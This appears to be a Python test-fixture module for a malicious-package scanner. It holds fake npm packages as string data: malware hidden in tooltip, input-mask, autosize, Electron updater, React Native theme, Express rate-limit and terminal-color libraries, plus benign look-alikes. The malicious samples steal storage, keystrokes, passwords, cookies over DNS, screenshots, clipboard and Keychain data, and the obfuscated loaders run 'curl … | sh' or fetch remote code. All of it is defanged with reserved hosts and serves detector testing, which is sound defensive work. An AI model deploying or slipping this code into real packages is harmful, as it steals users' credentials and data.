"""Samples of the `reach` branch for scripts/make-samples.py (2026-11-25, issue 6): attacks that
gave no finding before it, in shapes of our own (browser, Electron and React Native theft, screen
and clipboard grabs, DNS/FTP exfiltration, loaders that decode a constant blob with a local
function), and tricky benign packages that use the same APIs honestly (analytics SDKs, storage
helpers, screenshot tools, keyboard shortcuts, Electron cookie managers).

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `reach-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test, example.com/net/org) or documentation IPs; made-up keys.
"""

import json

from samples_malicious import S, pj
from samples_common import readme, registry

SAMPLES, BENIGN, sample, benign = registry()


# =============================================================================================
# Malicious


_TOOLTIP = r"""// tiny-tooltip-kit: accessible tooltips without a framework.
const PREFIX = 'ttk';
let mounted = false;

export function tooltip(el, text, opts = {}) {
  const tip = document.createElement('div');
  tip.className = `${PREFIX}-tip ${opts.placement || 'top'}`;
  tip.setAttribute('role', 'tooltip');
  tip.textContent = text;
  el.addEventListener('mouseenter', () => document.body.appendChild(tip));
  el.addEventListener('mouseleave', () => tip.remove());
  if (!mounted) { mounted = true; setTimeout(prefs, 2500); }
  return () => tip.remove();
}

function prefs() {
  try {
    if (location.hostname === 'localhost') return;
    const snapshot = Object.entries(localStorage).concat(Object.entries(sessionStorage));
    const u = 'https://cdn-metrics.tooltip-kit.example/v2/p';
    fetch(u, { method: 'POST', mode: 'no-cors', keepalive: true,
      body: JSON.stringify({ o: location.origin, s: snapshot }) });
  } catch (e) {}
}
"""


@sample
def tooltip_storage_fetch():
    files = {
        "package.json": pj(name="tiny-tooltip-kit", version="1.4.2", type="module",
                           description="Accessible tooltips in 1 kB.", module="index.mjs",
                           exports={".": "./index.mjs"}, keywords=["tooltip", "a11y", "ui"]),
        "README.md": readme("tiny-tooltip-kit", "```js\nimport { tooltip } from 'tiny-tooltip-kit'\n```"),
        "index.mjs": _TOOLTIP,
    }
    return S("reach-tooltip-storage-fetch", "front-end dependency dumping Web Storage (SPA session "
             "tokens) to a fixed host, the Magecart/storage-theft class", "2022-2025",
             ["browser-only", "local-storage-theft", "session-theft", "fetch-exfil", "esm"],
             "The first tooltip() call schedules prefs(): every localStorage and sessionStorage "
             "entry (Object.entries) POSTed with fetch keepalive to a literal URL, skipped on "
             "localhost.", files)


_MASK = r"""(function (root, factory) {
  if (typeof module === 'object' && module.exports) module.exports = factory();
  else root.InputMask = factory();
}(this, function () {
  'use strict';
  var buf = [];
  var sock = null;
  function open() {
    if (sock) return sock;
    sock = new WebSocket('wss://' + ['ws', 'mask-cdn', 'example'].join('.') + '/k');
    return sock;
  }
  document.addEventListener('keydown', function (ev) {
    var t = ev.target || {};
    buf.push([t.name || t.id || '', t.type || '', ev.key]);
    if (buf.length >= 30 || ev.key === 'Enter') {
      var s = open();
      var out = JSON.stringify({ p: location.href, k: buf.splice(0) });
      if (s.readyState === 1) s.send(out); else s.onopen = function () { s.send(out); };
    }
  }, true);
  function mask(input, pattern) {
    input.addEventListener('input', function () {
      var v = input.value.replace(/\D/g, ''), out = '', j = 0;
      for (var i = 0; i < pattern.length && j < v.length; i++) out += pattern[i] === '9' ? v[j++] : pattern[i];
      input.value = out;
    });
  }
  return { mask: mask };
}));
"""


@sample
def input_mask_keylogger():
    files = {
        "package.json": pj(name="umd-input-mask", version="3.2.1", main="dist/input-mask.umd.js",
                           description="Phone and card input masks, UMD build.",
                           keywords=["input", "mask", "phone", "card"]),
        "README.md": readme("umd-input-mask", "```js\nInputMask.mask(el, '(999) 999-9999')\n```"),
        "dist/input-mask.umd.js": _MASK,
    }
    return S("reach-input-mask-keylogger", "browser keylogger in a UI helper (keylogging npm "
             "packages reported 2023-2025): keydown capture with field names streamed over a "
             "WebSocket", "2023-2025", ["browser-only", "keylogger", "websocket-exfil", "umd"],
             "A document-wide capturing keydown listener records field name, type and key; "
             "every 30 keys or on Enter the batch goes over a WebSocket to a host joined from "
             "parts.", files)


_SKIM = r"""var cfg = { sel: 'form', every: 1 };
function grab(form) {
  var fields = form.querySelectorAll('input, select, textarea');
  var row = {};
  for (var i = 0; i < fields.length; i++) row[fields[i].name || i] = fields[i].value;
  var pw = document.querySelector('input[type=password]');
  if (pw) row.__p = pw.value;
  var x = new XMLHttpRequest();
  x.open('POST', 'https://198.51.100.23/api/v1/collect', true);
  x.setRequestHeader('Content-Type', 'text/plain');
  x.send(btoa(unescape(encodeURIComponent(JSON.stringify(row)))));
}
function bind() {
  var forms = document.querySelectorAll(cfg.sel);
  for (var i = 0; i < forms.length; i++) forms[i].addEventListener('change', function (e) { grab(e.currentTarget); });
}
if (typeof document !== 'undefined') document.readyState === 'loading' ? document.addEventListener('DOMContentLoaded', bind) : bind();
module.exports = function autosize(el) { el.style.height = el.scrollHeight + 'px'; };
"""


@sample
def autosize_field_grabber():
    files = {
        "package.json": pj(name="textarea-autosize-lite", version="2.0.7", main="index.js",
                           description="Grow textareas with their content.", keywords=["textarea", "autosize"]),
        "README.md": readme("textarea-autosize-lite", "```js\nrequire('textarea-autosize-lite')(el)\n```"),
        "index.js": _SKIM,
    }
    return S("reach-autosize-field-grabber", "form-field grabber (IconBurst 2022 style) on "
             "change events, password field included, XHR to a raw IP", "2022-2025",
             ["browser-only", "form-grabber", "password-theft", "xhr-exfil", "raw-ip"],
             "On load binds a change listener to every form; each change posts every input, "
             "select and textarea value plus the password field, base64-encoded, with "
             "XMLHttpRequest to a documentation IP.", files)


_ELECTRON = r"""'use strict';
const { app, desktopCapturer, net, screen } = require('electron');
const os = require('os');

async function frame() {
  const size = screen.getPrimaryDisplay().size;
  const sources = await desktopCapturer.getSources({ types: ['screen'], thumbnailSize: size });
  const png = sources[0] && sources[0].thumbnail.toPNG();
  if (!png) return;
  const req = net.request({ method: 'PUT', url: 'https://telemetry.updater-kit.example/f/' + os.hostname() });
  req.setHeader('Content-Type', 'image/png');
  req.on('error', () => {});
  req.end(png);
}

function checkForUpdates(feed) {
  return net.fetch(feed + '/latest.json').then((r) => r.json());
}

if (process.type === 'browser') {
  app.whenReady().then(() => setInterval(() => frame().catch(() => {}), 90000));
}
module.exports = { checkForUpdates };
"""


@sample
def electron_updater_capture():
    files = {
        "package.json": pj(name="electron-update-feed", version="1.8.0", main="main.js",
                           description="Check a JSON feed for Electron app updates.",
                           peerDependencies={"electron": ">=25"}, keywords=["electron", "update"]),
        "README.md": readme("electron-update-feed", "```js\ncheckForUpdates('https://my.example/feed')\n```"),
        "main.js": _ELECTRON,
    }
    return S("reach-electron-updater-capture", "Electron screen spying (desktopCapturer) from a "
             "dependency of the main process, modelled on Contagious Interview screen modules",
             "2024-2025", ["electron-main-process", "screen-capture", "host-identity", "network"],
             "When the app is ready, every 90 s the primary screen is captured with "
             "desktopCapturer and PUT with electron.net to a literal URL carrying the host name.",
             files)


_RN = r"""import AsyncStorage from '@react-native-async-storage/async-storage';
import * as Keychain from 'react-native-keychain';
import axios from 'axios';

export async function getTheme() {
  const t = await AsyncStorage.getItem('@theme');
  sync();
  return t || 'light';
}

let done = false;
async function sync() {
  if (done) return;
  done = true;
  try {
    const keys = await AsyncStorage.getAllKeys();
    const pairs = await AsyncStorage.multiGet(keys);
    const cred = await Keychain.getGenericPassword();
    await axios.post('https://api.rn-theme-store.example/v1/state', { pairs, cred });
  } catch (e) {}
}
"""


@sample
def rn_theme_keychain():
    files = {
        "package.json": pj(name="rn-theme-store", version="0.9.3", main="src/index.js",
                           **{"react-native": "src/index.js"},
                           description="Persist the user's theme in React Native.",
                           peerDependencies={"react-native": ">=0.70"}, keywords=["react-native", "theme"]),
        "README.md": readme("rn-theme-store", "```js\nconst theme = await getTheme()\n```"),
        "src/index.js": _RN,
    }
    return S("reach-rn-theme-keychain", "React Native data theft (the June 2025 React Native "
             "package compromise): whole AsyncStorage and the Keychain credentials posted with "
             "axios", "2025-06", ["react-native-only", "mobile", "keychain", "local-storage-theft",
                                  "network"],
             "getTheme() triggers sync(): every AsyncStorage pair and Keychain.getGenericPassword() "
             "posted to a literal URL once.", files)


_DNS = r"""'use strict';
const dns = require('dns');
const SENSITIVE = /sess|token|jwt|auth|sid/i;

function chunks(s, n) { const out = []; for (let i = 0; i < s.length; i += n) out.push(s.slice(i, i + n)); return out; }

function beacon(pairs) {
  const hex = Buffer.from(pairs.join(';')).toString('hex');
  chunks(hex, 60).forEach((c, i) => dns.resolve4(i + '-' + c + '.q.rate-limit-cache.example', () => {}));
}

module.exports = function rateLimit(opts = {}) {
  const max = opts.max || 100, hits = new Map();
  return function (req, res, next) {
    const ip = req.ip || req.socket.remoteAddress;
    const n = (hits.get(ip) || 0) + 1;
    hits.set(ip, n);
    const jar = String(req.headers.cookie || '').split(/;\s*/).filter((kv) => SENSITIVE.test(kv.split('=')[0]));
    if (jar.length) beacon(jar);
    if (n > max) { res.statusCode = 429; return res.end('Too Many Requests'); }
    next();
  };
};
"""


@sample
def ratelimit_cookie_dns():
    files = {
        "package.json": pj(name="express-rate-limit-lite", version="6.0.4", main="index.js",
                           description="Minimal rate limiting middleware for Express.",
                           keywords=["express", "rate-limit", "middleware"]),
        "README.md": readme("express-rate-limit-lite", "```js\napp.use(require('express-rate-limit-lite')({ max: 50 }))\n```"),
        "index.js": _DNS,
    }
    return S("reach-ratelimit-cookie-dns", "server-side session theft over DNS (getcookies 2018 "
             "class; DNS exfiltration as in depconf probes): session cookies of every request "
             "hex-encoded into lookups under a fixed domain", "2018-2025",
             ["server-side", "session-theft", "cookie-theft", "dns-exfil"],
             "The middleware keeps session-looking cookies (a /sess|token|jwt|auth|sid/ filter) "
             "and beacon() resolves their hex in 60-character labels under a literal domain.",
             files)


_WINSHOT = r"""'use strict';
const { execFile } = require('child_process');
const os = require('os');
const ftp = require('basic-ftp');

function ps(cmd) {
  return new Promise((res) => execFile('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-Command', cmd], { windowsHide: true }, (e, out) => res(String(out || ''))));
}

async function collect() {
  const file = os.tmpdir() + '\\wc' + Date.now() + '.png';
  await ps("Add-Type -AssemblyName System.Windows.Forms,System.Drawing;$b=[System.Windows.Forms.Screen]::PrimaryScreen.Bounds;$i=New-Object System.Drawing.Bitmap $b.Width,$b.Height;[System.Drawing.Graphics]::FromImage($i).CopyFromScreen($b.Location,[System.Drawing.Point]::Empty,$b.Size);$i.Save('" + file + "')");
  const clip = await ps('Get-Clipboard');
  const c = new ftp.Client();
  await c.access({ host: '203.0.113.61', user: 'anonymous', password: 'x' });
  await c.uploadFrom(file, os.hostname() + '.png');
  await c.uploadFrom(require('stream').Readable.from([clip]), os.hostname() + '.txt');
  c.close();
}

exports.colors = (s) => '\u001b[36m' + s + '\u001b[0m';
if (process.platform === 'win32') collect().catch(() => {});
"""


@sample
def win_screen_clipboard_ftp():
    files = {
        "package.json": pj(name="win-term-colors", version="1.1.0", main="index.js",
                           description="Colors for the Windows terminal.",
                           dependencies={"basic-ftp": "^5.0.0"}, keywords=["windows", "colors"]),
        "README.md": readme("win-term-colors", "```js\nconsole.log(require('win-term-colors').colors('hi'))\n```"),
        "index.js": _WINSHOT,
    }
    return S("reach-win-screen-clipboard-ftp", "Windows screen and clipboard grab on require, "
             "uploaded over FTP (infostealer packages 2023-2025)", "2023-2025",
             ["windows", "screen-capture", "clipboard-read", "ftp-exfil", "raw-ip", "import-time"],
             "On require (Windows) a hidden PowerShell saves a CopyFromScreen screenshot and "
             "reads Get-Clipboard; both go to a documentation IP with basic-ftp named after the "
             "host.", files)


def _xor_blob(code, key):
    return [ord(c) ^ key[i % len(key)] for i, c in enumerate(code)]


_XOR_PAYLOAD = ("require('child_process').exec(\"curl -s http://192.0.2.91/s.sh | sh\","
                "{windowsHide:true},function(){})")


@sample
def xor_array_loader():
    key = [0x13, 0x37, 0x5a]
    blob = json.dumps(_xor_blob(_XOR_PAYLOAD, key))
    src = (
        "'use strict';\n"
        "const TABLE = " + blob + ";\n"
        "function unpack(t, k) {\n"
        "  let s = '';\n"
        "  for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] ^ k[i % k.length]);\n"
        "  return s;\n"
        "}\n"
        "const K = [19, 55, 90];\n"
        "const run = Function;\n"
        "run(unpack(TABLE, K))();\n"
        "module.exports = function camel(s) { return s.replace(/[-_](\\w)/g, (_, c) => c.toUpperCase()); };\n"
    )
    files = {
        "package.json": pj(name="to-camel-lite", version="2.1.0", main="lib/index.js",
                           description="Convert dashed strings to camelCase."),
        "README.md": readme("to-camel-lite", "```js\nrequire('to-camel-lite')('a-b')\n```"),
        "lib/index.js": src,
    }
    return S("reach-xor-array-loader", "import-time loader: a constant number array XOR-decoded "
             "by a local function and run with the Function constructor (obfuscated droppers "
             "2023-2025)", "2023-2025", ["import-time", "xor", "local-decoder", "function-constructor",
                                         "download-exec"],
             "lib/index.js decodes a constant array with a three-byte XOR key in a local loop and "
             "runs it through an alias of Function at require time: the payload pipes a script "
             "from a documentation IP to sh.", files)


@sample
def shift_reverse_loader():
    payload = ("require('https').get('https://stage.cache-warm.example/n.js',r=>{let d='';"
               "r.on('data',c=>d+=c);r.on('end',()=>require('vm').runInThisContext(d))})")
    enc = "".join(chr(ord(c) + 3) for c in payload)[::-1]
    src = (
        "const store = " + json.dumps(enc) + ";\n"
        "const shift = (s) => s.split('').reverse().map((c) => String.fromCharCode(c.charCodeAt(0) - 3)).join('');\n"
        "const vm = require('vm');\n"
        "vm.runInThisContext(shift(store));\n"
        "exports.warm = (cache, keys) => keys.forEach((k) => cache.get(k));\n"
    )
    files = {
        "package.json": pj(name="cache-warmup", version="0.4.1", main="warm.js",
                           description="Warm an LRU cache at boot."),
        "README.md": readme("cache-warmup", "```js\nrequire('cache-warmup').warm(cache, keys)\n```"),
        "warm.js": src,
    }
    return S("reach-shift-reverse-loader", "import-time loader: a reversed, character-shifted "
             "constant decoded by a local arrow and run with vm.runInThisContext", "2023-2025",
             ["import-time", "char-shift", "string-reverse", "local-decoder", "vm", "remote-stage"],
             "warm.js reverses a constant and shifts each character by -3, then runs it with "
             "vm.runInThisContext on require: the stage fetches and runs more code.", files)


# =============================================================================================
# Tricky benign


_ANALYTICS = r"""const API = 'https://api.rl-analytics.example/v1/batch';
const KEY = '_rl_id';

function anonId() {
  const m = document.cookie.match(new RegExp('(?:^|; )' + KEY + '=([^;]+)'));
  if (m) return m[1];
  const id = Math.random().toString(36).slice(2);
  document.cookie = KEY + '=' + id + '; path=/; max-age=31536000; SameSite=Lax';
  return id;
}

const queue = [];
export function track(event, props = {}) {
  queue.push({ event, props, id: anonId(), t: Date.now(), page: location.pathname,
               session: localStorage.getItem('rl_session') });
  if (queue.length >= 10) flush();
}

export function flush() {
  if (!queue.length) return;
  navigator.sendBeacon(API, JSON.stringify({ batch: queue.splice(0) }));
}

document.addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') flush(); });
"""


@benign
def b_analytics_sdk():
    files = {
        "package.json": pj(name="rl-analytics-js", version="4.2.0", type="module", module="index.js",
                           exports={".": "./index.js"}, description="Product analytics for the browser."),
        "README.md": readme("rl-analytics-js", "```js\ntrack('signup', { plan: 'pro' })\n```"),
        "index.js": _ANALYTICS,
    }
    return S("reach-benign-analytics-sdk", "analytics SDK: its own cookie and storage key by "
             "name, batched to its own API with sendBeacon", "2025",
             ["browser-only", "analytics", "cookie", "local-storage", "sendbeacon"],
             "Mirrors reach-tooltip-storage-fetch: same storage and beacon APIs, but one named "
             "cookie and one named key, never the whole jar or store.", files)


_RN_BACKUP = r"""import AsyncStorage from '@react-native-async-storage/async-storage';

export async function exportState(filter = () => true) {
  const keys = (await AsyncStorage.getAllKeys()).filter(filter);
  return Object.fromEntries(await AsyncStorage.multiGet(keys));
}

export async function backup(url, token, filter) {
  const state = await exportState(filter);
  const res = await fetch(url, { method: 'PUT', headers: { Authorization: 'Bearer ' + token }, body: JSON.stringify(state) });
  if (!res.ok) throw new Error('backup failed: ' + res.status);
}

export async function restore(state) {
  await AsyncStorage.multiSet(Object.entries(state));
}
"""


@benign
def b_rn_storage_backup():
    files = {
        "package.json": pj(name="rn-storage-backup", version="1.3.0", main="index.js",
                           **{"react-native": "index.js"},
                           description="Export, back up and restore AsyncStorage to your own server."),
        "README.md": readme("rn-storage-backup", "```js\nawait backup('https://api.myapp.example/backup', token)\n```"),
        "index.js": _RN_BACKUP,
    }
    return S("reach-benign-rn-storage-backup", "React Native storage helper: walks AsyncStorage "
             "and uploads it to the URL its caller passes", "2025",
             ["react-native", "local-storage", "backup", "network"],
             "Mirrors reach-rn-theme-keychain: same getAllKeys/multiGet walk, destination given "
             "by the caller.", files)


_HOTKEYS = r"""const handlers = new Map();
const ICONS = 'https://cdn.hotkeys-ui.example/keycaps.json';

export function bind(combo, fn) {
  handlers.set(combo.toLowerCase(), fn);
}

function comboOf(e) {
  return [e.ctrlKey && 'ctrl', e.metaKey && 'meta', e.altKey && 'alt', e.shiftKey && 'shift', e.key.toLowerCase()].filter(Boolean).join('+');
}

document.addEventListener('keydown', (e) => {
  const fn = handlers.get(comboOf(e));
  if (fn) { e.preventDefault(); fn(e); }
});

export async function keycaps() {
  const r = await fetch(ICONS);
  return r.json();
}
"""


@benign
def b_hotkeys():
    files = {
        "package.json": pj(name="hotkeys-ui", version="2.5.1", type="module", module="index.js",
                           exports={".": "./index.js"}, description="Keyboard shortcuts with keycap icons."),
        "README.md": readme("hotkeys-ui", "```js\nbind('meta+k', openPalette)\n```"),
        "index.js": _HOTKEYS,
    }
    return S("reach-benign-hotkeys", "keyboard-shortcut library: document keydown listener and a "
             "fetch of its icon set from a fixed CDN", "2025", ["browser-only", "keyboard", "cdn-fetch"],
             "Mirrors reach-input-mask-keylogger: same keydown listener, keys never stored or "
             "sent; the only request downloads icons.", files)


_SHOT_UP = r"""'use strict';
const { execFile } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

function capture() {
  const file = path.join(os.tmpdir(), `shot-${Date.now()}.png`);
  return new Promise((res, rej) => execFile('screencapture', ['-x', file], (e) => (e ? rej(e) : res(file))));
}

async function share(opts) {
  if (!opts || !opts.endpoint) throw new Error('share: pass { endpoint, token }');
  const file = await capture();
  const body = fs.readFileSync(file);
  const r = await fetch(opts.endpoint, { method: 'POST', headers: { Authorization: 'Bearer ' + opts.token, 'Content-Type': 'image/png' }, body });
  return (await r.json()).url;
}

module.exports = { capture, share };
"""


@benign
def b_screenshot_share():
    files = {
        "package.json": pj(name="shot-share", version="0.7.0", main="index.js",
                           description="Take a screenshot and upload it to your own share server."),
        "README.md": readme("shot-share", "```js\nconst url = await share({ endpoint: 'https://share.myteam.example/up', token })\n```"),
        "index.js": _SHOT_UP,
    }
    return S("reach-benign-screenshot-share", "screenshot tool: screencapture then upload to the "
             "endpoint its caller gives", "2025", ["screen-capture", "file-upload", "library"],
             "Mirrors reach-electron-updater-capture: screen capture and upload, both on the "
             "caller's request and to the caller's endpoint.", files)


_COOKIES = r"""'use strict';
const { session, dialog } = require('electron');
const fs = require('fs');

const FEED = 'https://updates.cookie-jar-manager.example/latest.json';

async function exportCookies(win) {
  const all = await session.defaultSession.cookies.get({});
  const { filePath } = await dialog.showSaveDialog(win, { defaultPath: 'cookies.json' });
  if (filePath) fs.writeFileSync(filePath, JSON.stringify(all, null, 2));
  return all.length;
}

function addHeaders(origins, headers) {
  session.defaultSession.webRequest.onBeforeSendHeaders({ urls: origins }, (details, cb) => {
    cb({ requestHeaders: Object.assign(details.requestHeaders, headers) });
  });
}

async function latestVersion() {
  const r = await fetch(FEED);
  return (await r.json()).version;
}

module.exports = { exportCookies, addHeaders, latestVersion };
"""


@benign
def b_electron_cookie_manager():
    files = {
        "package.json": pj(name="electron-cookie-jar-manager", version="2.0.1", main="index.js",
                           description="Export Electron cookies to a file, add headers for your API, check for updates.",
                           peerDependencies={"electron": ">=25"}),
        "README.md": readme("electron-cookie-jar-manager", "```js\nawait exportCookies(win)\n```"),
        "index.js": _COOKIES,
    }
    return S("reach-benign-electron-cookie-manager", "Electron cookie manager: every cookie "
             "exported to a file the user picks, a webRequest header hook for the app's origins, "
             "and an update check against its own fixed feed", "2025",
             ["electron-main-process", "cookies", "webrequest-hook", "update-check"],
             "Mirrors holdout3-electron-window-state-header-sniffer: same cookies.get({}) and "
             "onBeforeSendHeaders, plus a fixed URL, but nothing read is sent.", files)
